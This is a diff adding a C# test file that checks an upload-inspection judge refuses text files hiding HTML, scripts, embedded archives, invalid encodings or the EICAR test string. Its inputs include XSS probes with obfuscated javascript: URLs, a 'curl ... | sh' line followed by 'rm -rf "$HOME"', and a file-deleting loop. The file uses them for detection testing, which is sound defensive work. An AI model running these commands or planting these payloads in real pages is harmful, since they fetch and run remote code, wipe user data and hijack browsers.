@@ -1,0 +1,131 @@
+using System.Text;
+using Gatehouse.Inspection.Tests.Judging;
+
+namespace Gatehouse.Inspection.Tests.Text;
+
+public sealed class HostileTextTests
+{
+    private const string Prose = "Hello, my order has not come yet.\n";
+
+    public static TheoryData<string, string> Markup => new()
+    {
+        { "<html>", "text/html" },
+        { "  \r\n\t<!DOCTYPE html><p>", "text/html" },
+        { "<!-- note --><body>", "text/html" },
+        { "<!----><!-- --> <SCRIPT >x", "text/html" },
+        { "<a href=\"x\">y</a>", "text/html" },
+        { "<custom thing=1>", "text/html" },
+        { "<?xml version=\"1.0\"?><a/>", "text/xml" },
+        { "<?xml version=\"1.0\"?><svg/>", "image/svg+xml" },
+        { "<svg xmlns=\"http://www.w3.org/2000/svg\"/>", "image/svg+xml" },
+        { Prose + "<img src=x onerror=\"alert(1)\">", "text/html" },
+        { Prose + "<img src=x onerror\n = alert(1)>", "text/html" },
+        { Prose + "<img/src=x/OnError=alert(1)>", "text/html" },
+        { Prose + "<img alt=\">\" onload=alert(1)>", "text/html" },
+        { Prose + "<!-- <a title=\" --> <img alt=\"<b x='\" onerror=alert(1)>", "text/html" },
+        { Prose + "<x srcdoc='y'>", "text/html" },
+        { Prose + "<a href=javascript:alert(1)>", "text/html" },
+        { Prose + "<a href=\" java\tscript:alert(1)\">", "text/html" },
+        { Prose + "<a href='&#106;avascript&colon;alert(1)'>", "text/html" },
+        { Prose + "<a href='&#x6A;avascript:alert(1)'>", "text/html" },
+        { Prose + "<script>alert(1)</script>", "text/html" },
+        { Prose + "<SCRIPT src=x>" + new string(' ', 40_000) + "</Script >", "text/html" },
+        { Prose + "<iframe src=x>", "text/html" },
+        { Prose + "<object data=x>", "text/html" },
+        { Prose + "<!DOCTYPE html>\n<html>\n</html>", "text/html" },
+        { "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "text/html" },
+        { "BEGIN:VCALENDAR\r\nVERSION:2.0\r\n", "text/calendar" },
+        { "begin:vcard\n", "text/vcard" },
+        { "#EXTM3U\n", "application/vnd.apple.mpegurl" },
+        { "#define x_width 8\n", "image/x-xbitmap" },
+        { "{\\rtf1\\ansi hello}", "application/rtf" },
+        { "{\\rt hello}", "application/rtf" },
+        { "From: <Saved>\nMIME-Version: 1.0\nContent-Type: multipart/related;\n", "multipart/related" },
+    };
+
+    public static TheoryData<string> Scripts => new(
+        "#!/bin/sh\n",
+        "#! /usr/bin/env python3\n",
+        "@ECHO OFF\r\ndir\r\n",
+        "%!PS-Adobe-3.0\n",
+        "[InternetShortcut]\nURL=x\n",
+        "[Desktop Entry]\nExec=true\n",
+        "Windows Registry Editor Version 5.00\n",
+        "REGEDIT4\n",
+        "push graphic-context\n",
+        Prose + "<?php echo 1;",
+        Prose + "<?= 1 ?>",
+        Prose + "<% Response.Write(1) %>",
+        Prose + "<!--#exec cmd=\"ls\" -->",
+        "var a = 1;\nfunction go() {\n  alert(a);\n}\ngo();\n",
+        "import os\nimport sys\n\ndef main():\n    print(os.name)\n\nmain()\n",
+        "cd /tmp\ncurl -s http://example.org | sh\nrm -rf \"$HOME\"\n",
+        "for f in *; do\n  rm -f \"$f\"\ndone\n");
+
+    [Theory]
+    [MemberData(nameof(Markup))]
+    public void Markup_is_no_plain_text_wherever_it_hides(string text, string mime) =>
+        Assert.Equal(mime, Judge.Refuses(Encoding.UTF8.GetBytes(text), Reasons.MarkupAsText).DetectedMime);
+
+    [Theory]
+    [MemberData(nameof(Markup))]
+    public void Markup_is_found_in_UTF16_too(string text, string mime) =>
+        Assert.Equal(mime, Judge.Refuses([0xFF, 0xFE, .. Encoding.Unicode.GetBytes(text)], Reasons.MarkupAsText).DetectedMime);
+
+    [Theory]
+    [MemberData(nameof(Scripts))]
+    public void Scripts_are_no_plain_text(string text)
+    {
+        Judge.Refuses(Encoding.UTF8.GetBytes(text), Reasons.ScriptAsText);
+        Assert.Equal(RefusalCode.TypeNotAllowed, Judge.Refuses(Encoding.UTF8.GetBytes(text), Reasons.ScriptAsText).Code);
+    }
+
+    [Fact]
+    public void Markup_in_UTF16_without_a_mark_is_named() =>
+        Judge.Refuses(Encoding.Unicode.GetBytes("<!DOCTYPE html><html>"), Reasons.MarkupAsText);
+
+    [Fact]
+    public void Markup_after_five_thousand_line_ends_is_found() =>
+        Judge.Refuses(Encoding.ASCII.GetBytes(new string('\n', 50_000) + "<html>"), Reasons.MarkupAsText);
+
+    [Fact]
+    public void A_NUL_anywhere_is_binary_data()
+    {
+        var refusal = Judge.Refuses([.. Encoding.ASCII.GetBytes(new string('a', 50_000)), 0, .. "end"u8], Reasons.BinaryAsText);
+        Assert.Equal((50_000, RefusalCode.TypeNotAllowed), (refusal.Offset, refusal.Code));
+    }
+
+    [Fact]
+    public void A_PDF_behind_text_is_a_second_format() =>
+        Judge.Refuses(Encoding.ASCII.GetBytes(Prose + "%PDF-1.4\n1 0 obj\n<<>>\nendobj\n"), Reasons.SecondFormat);
+
+    [Fact]
+    public void A_ZIP_behind_text_is_a_second_format() =>
+        Judge.Refuses([.. Encoding.ASCII.GetBytes(Prose), .. "PK\u0003\u0004"u8, 20, 0, 0, 0], Reasons.SecondFormat);
+
+    [Fact]
+    public void A_PHP_archive_behind_text_is_a_second_format() =>
+        Judge.Refuses(Encoding.ASCII.GetBytes(Prose + "__HALT_COMPILER(); and more"), Reasons.SecondFormat);
+
+    [Fact]
+    public void The_EICAR_string_is_malware()
+    {
+        var eicar = @"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + "EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*";
+        Judge.Refuses(Encoding.ASCII.GetBytes(eicar), Reasons.Malware);
+        Judge.Refuses(Encoding.ASCII.GetBytes(Prose + eicar + "\n"), Reasons.Malware);
+    }
+
+    [Fact]
+    public void UTF8_that_ends_inside_a_character_is_cut_short() =>
+        Assert.Equal(RefusalCode.ContentDamaged, Judge.Refuses([.. "Grüße aus Köln, f"u8, 0xC3], Reasons.Truncated).Code);
+
+    [Fact]
+    public void Bytes_of_no_charset_are_an_unknown_encoding()
+    {
+        var noise = new byte[600];
+        new Random(5).NextBytes(noise);
+        for (var i = 0; i < noise.Length; i++)
+            noise[i] |= 0x80;
+        Assert.Equal(RefusalCode.ContentDamaged, Judge.Refuses([.. "abc "u8, .. noise], Reasons.UnknownEncoding).Code);
+    }
+}
